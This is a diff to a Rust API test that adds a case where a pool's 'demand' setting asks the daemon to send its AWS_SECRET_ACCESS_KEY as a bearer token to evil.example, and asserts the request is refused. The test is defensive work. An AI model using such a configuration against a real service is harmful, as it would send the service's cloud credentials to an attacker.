@@ -582,6 +582,18 @@ async fn the_api_token_is_not_a_shell_commands_hosts_ssh_adoption_and_foreign_ro
     pool["iam_instance_profile"] = json!("admin");
     let (s, b) = post("/api/pools", pool).await;
     assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
+    // The daemon's environment sent to a URL of the caller's choosing: refused.
+    let mut pool = good_pool();
+    pool["demand"] =
+        json!({ "http": "https://evil.example/x", "bearer_env": "AWS_SECRET_ACCESS_KEY" });
+    let (s, b) = post("/api/pools", pool).await;
+    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
+    assert!(
+        b["error"]
+            .as_str()
+            .is_some_and(|e| e.starts_with("demand.bearer_env")),
+        "{b}"
+    );
     assert!(
         w.store
             .managed_boxes("tester")
